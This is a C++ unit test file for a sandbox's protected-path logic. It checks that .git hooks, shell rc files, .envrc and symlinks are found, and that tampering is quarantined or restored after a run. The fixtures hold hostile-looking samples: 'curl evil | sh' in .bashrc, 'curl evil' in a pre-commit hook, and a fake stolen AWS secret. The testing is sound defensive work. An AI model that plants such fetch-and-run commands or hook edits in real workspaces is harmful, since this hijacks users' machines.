// Protected paths: what DiscoverProtected finds in a writable root (following
// .git pointers), and what SweepProtected moves out after a run.
#include "policy/protected.h"

#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <climits>
#include <string>

#include "base/test_scratch_dir.h"

namespace corral {
namespace {

using ::corral::testing::TestTree;
using State = ProtectedPath::State;

const ProtectedPath* Find(const ProtectedSet& set, const std::string& path) {
  for (const ProtectedPath& entry : set.paths) {
    if (entry.path == path) return &entry;
  }
  return nullptr;
}

// "missing", "dir", "file", "symlink", or "absent" when not in the set.
std::string StateOf(const ProtectedSet& set, const std::string& path) {
  const ProtectedPath* entry = Find(set, path);
  if (entry == nullptr) return "absent";
  switch (entry->state) {
    case State::kMissing: return "missing";
    case State::kDirectory: return "dir";
    case State::kFile: return "file";
    case State::kSymlink: return "symlink";
  }
  return "?";
}

FileIdentity IdentityOf(const std::string& path) {
  struct stat st = {};
  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
  return {st.st_dev, st.st_ino};
}

bool HasAnchor(const ProtectedSet& set, const std::string& path) {
  return std::any_of(set.anchors.begin(), set.anchors.end(), [&](const PinnedPath& a) { return a.path == path; });
}

std::string LinkText(const std::string& path) {
  char text[PATH_MAX];
  ssize_t n = ::readlink(path.c_str(), text, sizeof text);
  return n < 0 ? std::string() : std::string(text, static_cast<size_t>(n));
}

TEST(DiscoverProtected, ExistingEntriesAreBoundAndMissingOnesRecorded) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  tree.Dir("ws/.git/hooks");
  tree.File("ws/.git/config", "[core]\n");
  tree.File("ws/.bashrc", "echo hi\n");
  ProtectedSet set = DiscoverProtected({ws});

  EXPECT_EQ(StateOf(set, ws + "/.git/hooks"), "dir");
  EXPECT_EQ(Find(set, ws + "/.git/hooks")->id, IdentityOf(ws + "/.git/hooks"));
  EXPECT_EQ(StateOf(set, ws + "/.git/config"), "file");
  EXPECT_EQ(Find(set, ws + "/.git/config")->id, IdentityOf(ws + "/.git/config"));
  EXPECT_EQ(StateOf(set, ws + "/.bashrc"), "file");
  EXPECT_EQ(Find(set, ws + "/.bashrc")->root, ws);
  for (const char* missing : {"/.envrc", "/.zshrc", "/.gitmodules", "/.vscode", "/.idea", "/.git/config.worktree"}) {
    EXPECT_EQ(StateOf(set, ws + missing), "missing") << missing;
  }
  EXPECT_TRUE(HasAnchor(set, ws + "/.git"));
  EXPECT_FALSE(HasAnchor(set, ws)) << "the root itself is bound by its grant, not as an anchor";
  EXPECT_TRUE(std::is_sorted(set.paths.begin(), set.paths.end(),
                             [](const ProtectedPath& a, const ProtectedPath& b) { return a.path < b.path; }));
}

TEST(DiscoverProtected, MissingGitDirectoryIsRecordedAsMissing) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  ProtectedSet set = DiscoverProtected({ws});
  // The first missing component is what the sweep moves out, whole: a `.git`
  // the run creates goes with its config, hooks and commondir.
  EXPECT_EQ(StateOf(set, ws + "/.git"), "missing");
  EXPECT_EQ(StateOf(set, ws + "/.git/hooks"), "absent");
  EXPECT_TRUE(set.anchors.empty());
}

TEST(DiscoverProtected, FollowsAGitFileIntoAWritableRoot) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  std::string real = tree.Dir("real.git");
  tree.Dir("real.git/hooks");
  tree.File("real.git/config", "[core]\n");
  tree.File("ws/.git", "gitdir: ../real.git\n");

  ProtectedSet set = DiscoverProtected({ws, real});
  EXPECT_EQ(StateOf(set, ws + "/.git"), "file") << "the pointer itself stays read-only";
  EXPECT_EQ(StateOf(set, real + "/hooks"), "dir");
  EXPECT_EQ(StateOf(set, real + "/config"), "file");
  EXPECT_EQ(Find(set, real + "/hooks")->root, real);

  // Outside every writable root the target is not the sandbox's to touch.
  ProtectedSet only_ws = DiscoverProtected({ws});
  EXPECT_EQ(StateOf(only_ws, ws + "/.git"), "file");
  EXPECT_EQ(StateOf(only_ws, real + "/hooks"), "absent");
}

TEST(DiscoverProtected, FollowsAnAbsoluteGitdirAndItsCommondir) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  std::string real = tree.Dir("real.git");
  tree.Dir("real.git/hooks");
  tree.File("real.git/config", "[core]\n");
  tree.Dir("real.git/worktrees/wt");
  tree.File("real.git/worktrees/wt/commondir", "../..\n");
  tree.File("ws/.git", "gitdir: " + real + "/worktrees/wt\n");

  ProtectedSet set = DiscoverProtected({ws, real});
  EXPECT_EQ(StateOf(set, real + "/worktrees/wt/hooks"), "missing");
  EXPECT_EQ(StateOf(set, real + "/worktrees/wt/config"), "missing");
  EXPECT_EQ(StateOf(set, real + "/hooks"), "dir");
  EXPECT_EQ(StateOf(set, real + "/config"), "file");
}

TEST(DiscoverProtected, ProtectsSubmoduleGitdirs) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  tree.Dir("ws/.git/hooks");
  tree.Dir("ws/.git/modules/x/hooks");
  tree.File("ws/.git/modules/x/config", "[core]\n");
  tree.Dir("ws/.git/modules/x/modules/y/hooks");

  ProtectedSet set = DiscoverProtected({ws});
  EXPECT_EQ(StateOf(set, ws + "/.git/modules/x/hooks"), "dir");
  EXPECT_EQ(StateOf(set, ws + "/.git/modules/x/config"), "file");
  EXPECT_EQ(StateOf(set, ws + "/.git/modules/x/modules/y/hooks"), "dir");
  EXPECT_TRUE(HasAnchor(set, ws + "/.git/modules/x"));
  EXPECT_TRUE(HasAnchor(set, ws + "/.git/modules"));
}

TEST(DiscoverProtected, RecordsASymlinkAndItsTarget) {
  TestTree tree;
  std::string ws = tree.Dir("ws");
  tree.File("ws/dotfiles/bashrc", "alias ls=ls\n");
  tree.Symlink("ws/.bashrc", "dotfiles/bashrc");
  ProtectedSet set = DiscoverProtected({ws});
  ASSERT_EQ(StateOf(set, ws + "/.bashrc"), "symlink");
  EXPECT_EQ(Find(set, ws + "/.bashrc")->link_target, "dotfiles/bashrc");
  EXPECT_EQ(StateOf(set, ws + "/dotfiles/bashrc"), "file") << "the writable target is pinned read-only too";
}

class SweepTest : public ::testing::Test {
 protected:
  SweepTest() : ws_(tree_.Dir("ws")), quarantine_(tree_.Join("quarantine")) {}
  TestTree tree_;
  std::string ws_;
  std::string quarantine_;
};

TEST_F(SweepTest, NothingChangedNothingMoved) {
  tree_.Dir("ws/.git/hooks");
  tree_.File("ws/.git/config");
  tree_.File("ws/.bashrc", "x");
  tree_.File("ws/dotfiles/zshrc");
  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
  ProtectedSet set = DiscoverProtected({ws_});
  EXPECT_TRUE(SweepProtected(set, quarantine_).empty());
  EXPECT_FALSE(TestTree::Exists(quarantine_));
  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
}

TEST_F(SweepTest, CreatedEnvrcIsQuarantined) {
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(StateOf(set, ws_ + "/.envrc"), "missing");
  tree_.File("ws/.envrc", "export AWS_SECRET=stolen\n");

  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
  EXPECT_EQ(findings[0].what, "created");
  EXPECT_EQ(findings[0].error, "");
  EXPECT_EQ(findings[0].moved_to, quarantine_ + ws_ + "/.envrc");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.envrc"));
  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "export AWS_SECRET=stolen\n");
}

TEST_F(SweepTest, CreatedHooksDirectoryIsQuarantinedWhole) {
  tree_.Dir("ws/.git");
  tree_.File("ws/.git/config");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(StateOf(set, ws_ + "/.git/hooks"), "missing");
  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");

  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
  EXPECT_TRUE(TestTree::Exists(ws_ + "/.git/config"));
  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
}

TEST_F(SweepTest, CreatedGitSymlinkIsMovedWithoutTouchingItsTarget) {
  ProtectedSet set = DiscoverProtected({ws_});
  std::string elsewhere = tree_.Dir("elsewhere");
  tree_.File("elsewhere/hooks/pre-commit", "keep me\n");
  tree_.Symlink("ws/.git", elsewhere);

  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, ws_ + "/.git");
  EXPECT_EQ(findings[0].error, "");
  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
  EXPECT_EQ(LinkText(findings[0].moved_to), elsewhere) << "the symlink itself was moved";
  EXPECT_EQ(TestTree::Read(elsewhere + "/hooks/pre-commit"), "keep me\n");
}

TEST_F(SweepTest, ReplacedSymlinkIsRestored) {
  tree_.File("ws/dotfiles/bashrc", "alias ls=ls\n");
  tree_.Symlink("ws/.bashrc", "dotfiles/bashrc");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(StateOf(set, ws_ + "/.bashrc"), "symlink");
  ASSERT_EQ(::unlink((ws_ + "/.bashrc").c_str()), 0);
  tree_.File("ws/.bashrc", "curl evil | sh\n");

  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].what, "replaced");
  EXPECT_EQ(findings[0].error, "");
  EXPECT_EQ(LinkText(ws_ + "/.bashrc"), "dotfiles/bashrc");
  EXPECT_EQ(TestTree::Read(findings[0].moved_to), "curl evil | sh\n");
  EXPECT_EQ(TestTree::Read(ws_ + "/dotfiles/bashrc"), "alias ls=ls\n");
}

TEST_F(SweepTest, RetargetedAndRemovedSymlinksAreRestored) {
  tree_.File("ws/dotfiles/zshrc");
  tree_.File("ws/dotfiles/profile");
  tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
  tree_.Symlink("ws/.profile", "dotfiles/profile");
  ProtectedSet set = DiscoverProtected({ws_});
  ASSERT_EQ(::unlink((ws_ + "/.zshrc").c_str()), 0);
  tree_.Symlink("ws/.zshrc", "/etc/evil");
  ASSERT_EQ(::unlink((ws_ + "/.profile").c_str()), 0);

  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_);
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
  EXPECT_EQ(LinkText(ws_ + "/.profile"), "dotfiles/profile");
  for (const SweepFinding& finding : findings) {
    EXPECT_EQ(finding.error, "") << finding.path;
    EXPECT_EQ(finding.what, finding.path == ws_ + "/.profile" ? "removed" : "replaced") << finding.path;
  }
}

}  // namespace
}  // namespace corral
